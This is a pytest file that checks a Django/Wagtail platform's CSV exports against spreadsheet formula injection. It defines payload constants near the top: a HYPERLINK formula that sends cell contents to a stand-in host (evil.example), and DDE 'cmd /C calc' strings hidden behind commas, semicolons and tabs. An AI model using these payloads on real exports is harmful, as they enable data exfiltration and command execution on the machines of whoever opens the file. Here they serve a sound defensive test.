"""No CSV the platform writes holds a cell a spreadsheet would run as a formula.

Each admin listing export is downloaded over HTTP by a signed-in user who may
read it, and the public report figures by a visitor, after a stranger (a join
request, a meeting registration, an organisation named in a submission) or a
facilitator (a team's title, an inventory entry) wrote formulas into what they
list: at the start of a value and behind the separators other spreadsheets
split on. The file is read every way a spreadsheet may read it
(``tests.spreadsheets``), and each value comes back exactly once the guard is
taken off. The public inventory export, with its import, is tested in
tests/inventory/test_export_import.py.
"""

from django.urls import reverse

from wagtail.models import Locale

import pytest

from action_lines.models import MeetingRegistration, TeamMembershipRequest
from home.csv_guard import unguard
from home.models import StakeholderOrganisation
from inventory.models import AnnualContribution
from reporting.assembly import assemble_and_save
from tests.factories import (
    YEAR,
    InventoryEntryFactory,
    ReportIndexPageFactory,
    ReportPageFactory,
)
from tests.helpers.dates import aware
from tests.helpers.pages import publish
from tests.helpers.spreadsheets import assert_no_formula, body, exported_values, rows

pytestmark = pytest.mark.usefixtures("empty_cache")

# What the attack on a copy of the site used, and what finding 8 added: a
# formula behind a ";" (Excel in French, Spanish or Russian), a "," or a tab.
HYPERLINK = '=HYPERLINK("http://evil.example/?d="&A1,"Details")'
BEHIND_SEMICOLON = 'Ministry of ICT;=HYPERLINK("http://evil.example/?d="&B1)'
BEHIND_COMMA = "Ada Lovelace, -2+3+cmd|' /C calc'!A0"
BEHIND_TAB = 'Partners\t @SUM(1+1)*cmd|" /C calc"!A0'
ALREADY_QUOTED = "'=not a formula, and kept as typed"


def export(client, url, params=None):
    response = client.get(url, {**(params or {}), "export": "csv"})
    assert response.status_code == 200
    assert response["Content-Type"].startswith("text/csv")
    text = body(response)
    assert_no_formula(text)
    return text


def modeladmin_url(model):
    return reverse(f"action_lines_{model}_modeladmin_index")


def test_join_requests_from_the_public_export_without_formulas(
    tree, users, client, client_for
):
    response = client.post(
        f"{tree.c5_team.url}join/",
        {
            "organisation_name": HYPERLINK,
            "person_name": BEHIND_COMMA,
            "email": "stranger@example.org",
            "stakeholder_type": "civil-society",
            "country": "CHE",
            "message": BEHIND_SEMICOLON,
        },
    )
    assert response.status_code == 302
    assert TeamMembershipRequest.objects.filter(organisation_name=HYPERLINK).exists()
    facilitator = client_for(users["c5_facilitator"])
    text = export(facilitator, modeladmin_url("teammembershiprequest"))
    assert {HYPERLINK, BEHIND_COMMA} <= exported_values(text)


def test_meeting_registrations_export_without_formulas(tree, users, client, client_for):
    response = client.post(
        f"{tree.c5_meeting.url}register/",
        {
            # One-line fields refuse a tab: the formula hides behind a comma.
            "name": BEHIND_COMMA,
            "email": "stranger@example.org",
            "organisation": BEHIND_SEMICOLON,
            "stakeholder_type": "government",
            "country": "KEN",
            "attendance": "in-person",
        },
    )
    assert response.status_code == 302
    assert MeetingRegistration.objects.filter(organisation=BEHIND_SEMICOLON).exists()
    facilitator = client_for(users["c5_facilitator"])
    text = export(facilitator, modeladmin_url("meetingregistration"))
    assert {BEHIND_COMMA, BEHIND_SEMICOLON} <= exported_values(text)


def test_inventory_entries_export_without_formulas(tree, users, client_for):
    InventoryEntryFactory(title=HYPERLINK, draft=True)
    InventoryEntryFactory(title=BEHIND_SEMICOLON)
    InventoryEntryFactory(title=ALREADY_QUOTED)
    editor = client_for(users["inventory_editor"])
    text = export(editor, reverse("wagtailsnippets_inventory_inventoryentry:list"))
    assert {HYPERLINK, BEHIND_SEMICOLON, ALREADY_QUOTED} <= exported_values(text)


def test_annual_contributions_export_without_formulas(tree, users, client_for):
    """A facilitator names their team: its title is in the Secretariat's export."""
    team = tree.c5_team
    team.title = BEHIND_SEMICOLON
    publish(team, users["c5_facilitator"])
    AnnualContribution.objects.create(
        team=team, year=2025, narrative=f"<p>{BEHIND_COMMA}</p>"
    )
    AnnualContribution.objects.create(team=tree.c2_team, year=2025, narrative=HYPERLINK)
    secretariat = client_for(users["secretariat"])
    text = export(secretariat, reverse("annual_contributions:index"))
    assert {BEHIND_SEMICOLON, HYPERLINK} <= exported_values(text)


def test_organisations_export_without_formulas(tree, users, client_for):
    StakeholderOrganisation.objects.create(
        name=HYPERLINK, acronym="@SUM(1)", stakeholder_type="civil-society"
    )
    StakeholderOrganisation.objects.create(
        name=BEHIND_TAB, stakeholder_type="government"
    )
    admin = client_for(users["superuser"])
    text = export(admin, reverse("wagtailsnippets_home_stakeholderorganisation:list"))
    assert {HYPERLINK, "@SUM(1)", BEHIND_TAB} <= exported_values(text)


def test_wagtail_reports_export_without_formulas(tree, users, client_for):
    """Wagtail's own reports (here "Aging pages") go through the same guard."""
    page = tree.c5_modalities
    page.title = HYPERLINK
    publish(page, users["c5_facilitator"])
    admin = client_for(users["superuser"])
    text = export(admin, reverse("wagtailadmin_reports:aging_pages"))
    assert HYPERLINK in exported_values(text)


def test_translations_to_do_export_without_formulas(tree, users, client_for):
    assert Locale.objects.filter(language_code="fr").exists()
    page = tree.c2
    page.title = BEHIND_SEMICOLON
    publish(page, users["secretariat"])
    secretariat = client_for(users["secretariat"])
    text = export(secretariat, "/admin/reports/translation-status/")
    assert BEHIND_SEMICOLON in exported_values(text)


def test_report_figures_guard_the_titles_facilitators_give_their_teams(
    tree, users, client, home_page
):
    """The public CSV of a report names each team by its title.

    The public CSV of a report names each team by its title, which the team's
    facilitators write.
    """
    team = tree.c5_team
    team.title = BEHIND_SEMICOLON
    publish(team, users["c5_facilitator"])
    AnnualContribution.objects.create(
        team=team, year=YEAR, narrative="<p>Done.</p>", submitted_at=aware(2026, 2, 1)
    )
    report = ReportPageFactory(parent=publish(ReportIndexPageFactory(parent=home_page)))
    report.save_revision()
    assemble_and_save(report)
    report = type(report).objects.get(pk=report.pk)
    report.get_latest_revision().publish()
    response = client.get(report.url + "figures/csv/")
    assert response.status_code == 200
    text = body(response)
    assert_no_formula(text)
    teams = {unguard(r[1]): r[2] for r in rows(text) if r[0] == "team contribution"}
    assert teams == {BEHIND_SEMICOLON: "1", "C2 team": "0"}


def test_xlsx_exports_are_unchanged(tree, users, client_for):
    """The guard is for CSV: Wagtail's XLSX cells are text already."""
    from io import BytesIO

    from openpyxl import load_workbook

    InventoryEntryFactory(title=HYPERLINK, draft=True)
    editor = client_for(users["inventory_editor"])
    response = editor.get(
        reverse("wagtailsnippets_inventory_inventoryentry:list"), {"export": "xlsx"}
    )
    assert response.status_code == 200
    sheet = load_workbook(BytesIO(b"".join(response.streaming_content))).active
    cells = [cell for row in sheet.iter_rows() for cell in row]
    (cell,) = [cell for cell in cells if cell.value == HYPERLINK]
    assert cell.data_type == "s"
